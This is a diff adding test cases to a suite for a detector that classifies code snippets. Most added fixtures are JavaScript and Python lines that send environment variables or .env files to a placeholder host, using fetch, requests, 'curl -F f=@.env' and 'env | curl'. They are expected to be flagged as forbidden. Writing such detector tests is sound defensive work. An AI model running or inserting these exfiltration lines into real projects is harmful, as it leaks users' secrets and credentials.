@@ -59,3 +59,62 @@ describe('a key that a function of a changed module sends', () => {
     expect(['quiet', 'review']).toContain(await loaded.verdict(path, content, run));
   });
 });
+
+const TEST = 'test/z.test.js';
+const PYTHON = (body: string): string =>
+  `import os, json, requests\nfrom dotenv import dotenv_values, load_dotenv\ndef test_a():\n    ${body.replaceAll('\n', '\n    ')}\n`;
+
+describe('the environment and env files that a test sends', () => {
+  it.each([
+    ['all variables', TEST, POST('JSON.stringify(process.env)'), 'npm test'],
+    ['all variables in an address', TEST, `fetch("${OUT}/?q=" + encodeURIComponent(JSON.stringify(process.env)))`, 'npm test'],
+    ['an env file', TEST, `${JS}${POST('fs.readFileSync(".env")')}`, 'npm test'],
+    ['an env file in an address', TEST, `${JS}fetch("${OUT}/?q=" + fs.readFileSync(".env", "utf8"))`, 'npm test'],
+    ['an env file that cat prints', TEST, `${JS}${POST('cp.execSync("cat .env")')}`, 'npm test'],
+    ['an env file by curl', TEST, `${JS}cp.execSync("curl -F f=@.env ${OUT}")`, 'npm test'],
+    ['env by curl', TEST, `${JS}cp.execSync("env | curl -d @- ${OUT}")`, 'npm test'],
+    ['all variables by a module', 'src/f.js', `export const f = () => ${POST('JSON.stringify(process.env)')};`, 'npm test'],
+    ['Python: all variables', 'tests/test_z.py', PYTHON(`requests.post("${OUT}", json=dict(os.environ))`), 'pytest'],
+    ['Python: as text', 'tests/test_z.py', PYTHON(`requests.post("${OUT}", data=str(os.environ))`), 'pytest'],
+    ['Python: an env file', 'tests/test_z.py', PYTHON(`requests.post("${OUT}", data=open(".env").read())`), 'pytest'],
+    ['Python: in an address', 'tests/test_z.py', PYTHON(`requests.get("${OUT}/?q=" + open(".env").read())`), 'pytest'],
+    ['Python: all values', 'tests/test_z.py', PYTHON(`requests.post("${OUT}", json=dotenv_values(".env"))`), 'pytest'],
+    [
+      'Python: a module',
+      'pk/m.py',
+      `import os, requests\ndef f():\n    requests.post("${OUT}", json=dict(os.environ))\n`,
+      'pytest',
+    ],
+  ])('%s', async (_, path, content, run) => {
+    expect(await loaded.verdict(path, content, run)).toBe('forbidden');
+  });
+
+  const token = 'headers={"a": os.environ["API_TOKEN"]}';
+  it.each([
+    ['a token', TEST, `fetch("${OUT}/me", { headers: { a: process.env.API_TOKEN } })`, 'npm test'],
+    ['a token and an address', TEST, 'const { URL, TOKEN } = process.env; fetch(URL, { headers: { a: TOKEN } })', 'npm test'],
+    ['this machine', TEST, 'fetch("http://localhost:3000", { method: "POST", body: JSON.stringify(process.env) })', 'npm test'],
+    ['a program with the environment', TEST, `${JS}cp.spawn("curl", ["${OUT}/up"], { env: process.env })`, 'npm test'],
+    [
+      'a value of an env file',
+      TEST,
+      `${JS}const env = Object.fromEntries(fs.readFileSync(".env", "utf8").split("\\n").map((l) => l.split("=")));\nfetch("${OUT}/me", { headers: { a: env.TOKEN } })`,
+      'npm test',
+    ],
+    ['Python: dotenv', 'tests/test_z.py', PYTHON(`load_dotenv()\nrequests.post("${OUT}", json={"a": 1}, ${token})`), 'pytest'],
+    [
+      'Python: a value of dotenv',
+      'tests/test_z.py',
+      PYTHON(`c = dotenv_values(".env")\nrequests.get("${OUT}", headers={"a": c["KEY"]})`),
+      'pytest',
+    ],
+    [
+      'Python: lines of an env file',
+      'tests/test_z.py',
+      PYTHON(`for line in open(".env"):\n    k, v = line.split("=")\n    os.environ[k] = v\nrequests.get("${OUT}", ${token})`),
+      'pytest',
+    ],
+  ])('not %s', async (_, path, content, run) => {
+    expect(['quiet', 'review']).toContain(await loaded.verdict(path, content, run));
+  });
+});
